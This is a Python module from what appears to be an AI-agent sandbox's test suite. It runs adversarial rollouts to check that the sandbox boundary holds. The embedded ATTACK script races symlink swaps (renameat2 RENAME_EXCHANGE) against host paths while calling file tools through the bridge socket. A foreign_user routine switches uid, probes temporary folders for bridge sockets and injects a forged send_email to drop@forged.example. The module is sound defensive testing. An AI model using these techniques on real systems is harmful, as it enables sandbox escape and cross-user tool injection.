"""The engine side of the boundary race suite (tests/sandbox/test_boundary_races.py), run as a process of its own.

`python -m tests.sandbox.boundary_attack PLAN.json RESULT.json` runs the rollouts a plan describes, each one
an adversarial agent: a command inside the real sandbox (`ATTACK`, python3 from the host's or the image's
/usr) that swaps workspace entries with symlinks to the host in a tight loop (`renameat2(RENAME_EXCHANGE)`)
while it sends file-tool calls through the bridge socket, and — from another thread — the agent's own
direct tool calls on the same paths. With `foreign`, a process of another uid keeps trying to reach every
bridge socket on the host and inject a `send_email`. Everything the engine hands back (observations,
bridged replies, receipts, the final snapshot) goes into RESULT for the test to search for what must never
appear there (the host's sentinels, the canary in this process's environment).

A process of its own because /proc/self/environ is the environment a process *started* with: the canary
key must be in it for a read of it to be caught. The module uses only what the engine offered before the
boundary was rebuilt (Environment, gateway.call, receipts, snapshot), so the same plan runs on the commit
before the change. Mode "uids" runs commands that report the uid they ran as, for the test of two engine
processes competing for uids.
"""

from __future__ import annotations

import glob
import json
import os
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

# Inside the sandbox: plant the links, fork a swapper, then send every request through the bridge and
# keep each reply (in the workspace: the command's output is cut to a head and a tail).
ATTACK = r"""
import ctypes, json, os, socket, sys
cfg = json.load(open("attack.json"))
libc = ctypes.CDLL(None, use_errno=True)
for name, target in cfg["links"]:
    try:
        os.symlink(target, name)
    except OSError:
        pass
pairs = [(a.encode(), b.encode()) for a, b in cfg["swaps"]]
# Open to every uid, so the swapper keeps going should the workspace be handed to another uid meanwhile
# (a nested command's uid, before the change).
for name in ["."] + [a for a, _ in cfg["swaps"]]:
    try:
        os.chmod(name, 0o777)
    except OSError:
        pass
pid = os.fork()
if pid == 0:
    try:
        while True:
            for a, b in pairs:
                libc.renameat2(-100, a, -100, b, 2)  # AT_FDCWD, RENAME_EXCHANGE
    finally:
        os._exit(0)
open("started", "w").close()
path = os.environ.get("REDAGENT_SOCKET", "/run/redagent/svc.sock")
out = open("replies.jsonl", "w")
for i, request in enumerate(cfg["requests"]):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(60)
        s.connect(path)
        s.sendall(json.dumps(request).encode() + b"\n")
        s.shutdown(socket.SHUT_WR)
        data = b""
        while not data.endswith(b"\n"):
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        reply = data.decode("utf-8", "replace")
    except OSError as exc:
        reply = json.dumps({"ok": False, "output": "client: %s" % exc})
    out.write(json.dumps({"i": i, "reply": reply}) + "\n")
    out.flush()  # kept should the command be killed at its deadline
out.close()
os.kill(pid, 9)
os.waitpid(pid, 0)
"""

SURFACES = ["workspace", "email", "browser", "banking", "files"]


def backend(name: str) -> Any:
    from redagent.sandbox.environment import make_isolation

    if name == "bwrap":
        return make_isolation("bwrap")
    return make_isolation("docker", name.partition(":")[2] or None, run_id="boundary-races")


def _outcome(outcome: Any) -> dict[str, Any]:
    return {"name": outcome.name, "ok": outcome.ok, "observation": outcome.observation, "error": outcome.error}


def rollout(iso: Any, spec: dict[str, Any]) -> dict[str, Any]:
    """One adversarial rollout: the attack command with the agent's direct calls beside it."""
    from redagent.sandbox.environment import Environment
    from redagent.sandbox.services import workspace as workspace_module

    seed = spec["seed"]
    seed["workspace"]["files"]["attack.py"] = ATTACK
    seed["workspace"]["files"]["attack.json"] = json.dumps(spec["inside"])
    quota = workspace_module.quota_problem
    if not spec.get("quota", True):  # as on a host without mount rights: the workspace stays where it was made
        workspace_module.quota_problem = lambda: "no quota for this rollout"
    try:
        env = Environment(seed, SURFACES, isolation=iso)
        return _attack(env, spec)
    finally:
        workspace_module.quota_problem = quota


def _attack(env: Any, spec: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = {"tool": spec["tool"], "direct": [], "errors": []}
    try:
        root = Path(env.workspace_dir)
        stop = threading.Event()

        def agent() -> None:
            # The agent's own calls start once the swapper runs, and stop with the command.
            while not stop.is_set() and not (root / "started").exists():
                time.sleep(0.005)
            i = 0
            while not stop.is_set() and spec["direct"]:
                name, args = spec["direct"][i % len(spec["direct"])]
                try:
                    result["direct"].append(_outcome(env.gateway.call(name, args, step=2)))
                except Exception as exc:  # anything out of the gateway is an internal error
                    result["errors"].append(f"direct {name}: {type(exc).__name__}: {exc}")
                i += 1
                # A breath between calls: flat out, this thread starves the bridge (and dockerd) of the CPU.
                time.sleep(0.001 if spec["tool"] == "run_command" else 0)

        thread = threading.Thread(target=agent, daemon=True)
        thread.start()
        started = time.monotonic()
        try:
            command = env.gateway.call("run_command", {"command": "python3 attack.py", "timeout": 60}, step=1)
            result["command"] = _outcome(command)
        except Exception as exc:
            result["errors"].append(f"run_command: {type(exc).__name__}: {exc}")
        finally:
            stop.set()
            thread.join(120)
        result["seconds"] = round(time.monotonic() - started, 2)
        result["hung"] = thread.is_alive()
        replies = root / "replies.jsonl"
        try:
            fd = os.open(replies, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
            with os.fdopen(fd, "rb") as handle:
                result["bridged"] = [
                    json.loads(line)
                    for line in handle.read(64 << 20).decode("utf-8", "replace").splitlines()
                    if line.strip()
                ]
        except OSError as exc:
            result["bridged"] = []
            result["errors"].append(f"no replies: {exc}")
        result["receipts"] = env.receipts.to_list()
        try:
            result["snapshot"] = env.snapshot()
        except Exception as exc:
            result["errors"].append(f"snapshot: {type(exc).__name__}: {exc}")
    finally:
        try:
            env.close()
        except Exception as exc:
            result["errors"].append(f"close: {type(exc).__name__}: {exc}")
    return result


def foreign_user(uid: int, token: str, stop_fd: int) -> None:
    """As `uid`, keep trying every bridge socket on the host until `stop_fd` closes (in a forked child)."""
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    request = json.dumps(
        {
            "tool": "send_email",
            "args": {
                "to": ["drop@forged.example"],
                "subject": f"FORGED-{token}",
                "body": "injected by another local user",
            },
        }
    ).encode()
    tried = reached = 0
    # The engine's scratch folders (TMPDIR): the test gives this process a folder of its own, so the
    # attempts reach this run's sockets and never another process's on a shared machine.
    tmp = tempfile.gettempdir()
    while True:
        try:
            if os.read(stop_fd, 1) == b"":
                break
        except BlockingIOError:
            pass
        # The folders' names show in the (sticky, world-readable) temporary folder; what is inside them is
        # tried by name even where it cannot be listed (a socket may still be reachable by its path).
        paths = [f"{d}/run/svc.sock" for d in glob.glob(f"{tmp}/redagent-cmd-*")]
        paths += [f"{d}/svc-{n}.sock" for d in glob.glob(f"{tmp}/redagent-run-*") for n in range(1, 33)]
        for path in paths:
            tried += 1
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(2)
                    s.connect(path)
                    s.sendall(request + b"\n")
                    s.shutdown(socket.SHUT_WR)
                    if s.recv(65536):
                        reached += 1
            except OSError:
                pass
        time.sleep(0.002)
    os.write(1, json.dumps({"tried": tried, "reached": reached}).encode())


def run_race(plan: dict[str, Any]) -> dict[str, Any]:
    foreign = None
    if plan.get("foreign"):
        stop_read, stop_write = os.pipe()
        report_read, report_write = os.pipe()
        os.set_blocking(stop_read, False)
        pid = os.fork()
        if pid == 0:
            os.close(stop_write)
            os.close(report_read)
            os.dup2(report_write, 1)
            try:
                foreign_user(plan["foreign"]["uid"], plan["foreign"]["token"], stop_read)
            finally:
                os._exit(0)
        os.close(stop_read)
        os.close(report_write)
        foreign = (pid, stop_write, report_read)
    iso = backend(plan["backend"])
    rollouts = []
    try:
        for spec in plan["rollouts"]:
            rollouts.append(rollout(iso, spec))
    finally:
        close = getattr(iso, "close", None)
        if close is not None:
            close()
    out: dict[str, Any] = {"rollouts": rollouts}
    if foreign is not None:
        pid, stop_write, report_read = foreign
        os.close(stop_write)
        os.waitpid(pid, 0)
        with os.fdopen(report_read, "rb") as report:
            out["foreign"] = json.loads(report.read() or b"{}")
    return out


def run_uids(plan: dict[str, Any]) -> dict[str, Any]:
    """Rollouts whose commands report the uid they run as, with when each rollout was live."""
    from redagent.sandbox.environment import Environment

    iso = backend(plan["backend"])
    seen = []
    for _ in range(plan["rollouts"]):
        env = Environment({"workspace": {"files": {}}}, SURFACES, isolation=iso)
        try:
            began = time.time()
            uids = []
            for _ in range(plan["commands"]):
                outcome = env.gateway.call("run_command", {"command": f"id -u; sleep {plan['sleep']}"}, step=1)
                uids.append(json.loads(outcome.observation).get("stdout", "").strip())
            seen.append({"uids": uids, "began": began, "ended": time.time()})
        finally:
            env.close()
    close = getattr(iso, "close", None)
    if close is not None:
        close()
    return {"rollouts": seen, "pid": os.getpid()}


def main() -> None:
    plan = json.loads(Path(sys.argv[1]).read_text())
    result = run_uids(plan) if plan.get("mode") == "uids" else run_race(plan)
    Path(sys.argv[2]).write_text(json.dumps(result))


if __name__ == "__main__":
    main()
